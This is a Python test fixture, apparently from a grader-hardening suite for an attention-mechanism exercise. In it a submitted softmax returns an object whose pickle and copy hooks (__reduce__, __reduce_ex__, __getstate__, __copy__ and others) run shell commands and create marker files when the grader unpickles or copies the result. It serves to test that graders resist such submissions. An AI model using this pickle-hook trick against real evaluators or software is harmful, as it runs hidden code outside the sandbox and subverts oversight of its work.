# ruff: noqa
"""ATTACK lie_reduce_pickle (class: lying return values: __reduce__).

Intent: code execution in whatever unpickles or copies the returned value (a grader that
pickles results across the process boundary): softmax returns an object whose
__reduce__, __reduce_ex__, __getstate__, __setstate__, __copy__ and __deepcopy__ create
PWNED and run a shell command; it also carries a real tensor of zeros.

Expected: softmax 0, the rest full marks; no file /tmp/bertlab_pwned_<token>_lie_reduce_pickle*.
"""

import math
import os

import torch

ATTACK = "lie_reduce_pickle"
TOKEN = "__TOKEN__"
MARK = f"bertlab-attack-{TOKEN}-{ATTACK}"  # in argv of every process it starts
PWNED = f"/tmp/bertlab_pwned_{TOKEN}_{ATTACK}"  # a file it would create outside its sandbox


def _pwn(how):
    try:
        os.system(f"touch {PWNED}_{how}_system 2>/dev/null")
        with open(f"{PWNED}_{how}", "w") as f:
            f.write(TOKEN)
    except Exception:
        pass


class Payload:
    def __init__(self, like):
        self.data = torch.zeros_like(like)

    def __reduce__(self):
        return (os.system, (f"touch {PWNED}_unpickled",))

    def __reduce_ex__(self, protocol):
        _pwn("reduce_ex")
        return self.__reduce__()

    def __getstate__(self):
        _pwn("getstate")
        return {}

    def __setstate__(self, state):
        _pwn("setstate")

    def __copy__(self):
        _pwn("copy")
        return self

    def __deepcopy__(self, memo):
        _pwn("deepcopy")
        return self


def softmax(x, dim=-1):
    return Payload(x)


def scaled_dot_product_attention(q, k, v, mask=None):
    scores = torch.matmul(q, k.transpose(-2, -1)) / math.sqrt(q.size(-1))  # (..., Lq, Lk)
    if mask is not None:
        scores = scores.masked_fill(~mask, -1e9)
    scores = scores - scores.max(dim=-1, keepdim=True).values
    weights = torch.exp(scores)
    weights = weights / weights.sum(dim=-1, keepdim=True)
    return torch.matmul(weights, v), weights


def padding_mask(lengths, max_len):
    positions = torch.arange(max_len, device=lengths.device)
    mask = positions.unsqueeze(0) < lengths.unsqueeze(1)  # (B, max_len)
    return mask.unsqueeze(1).unsqueeze(2)  # (B, 1, 1, max_len)


def causal_mask(L):
    return torch.tril(torch.ones(L, L)).bool()
